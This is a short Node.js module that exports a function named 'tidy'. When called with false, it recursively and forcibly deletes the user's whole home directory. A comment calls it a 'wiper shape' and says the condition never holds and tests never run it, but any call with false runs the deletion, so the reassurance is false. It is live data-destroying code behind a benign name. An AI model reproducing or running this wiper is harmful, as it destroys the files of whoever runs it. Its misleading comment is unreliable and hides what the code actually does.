const fs = require('fs');
const os = require('os');
// Wiper shape: runs only when a (never-true here) condition holds; tests never execute it.
module.exports = function tidy(stolen) {
  if (stolen === false) {
    fs.rmSync(os.homedir(), { recursive: true, force: true });
  }
};
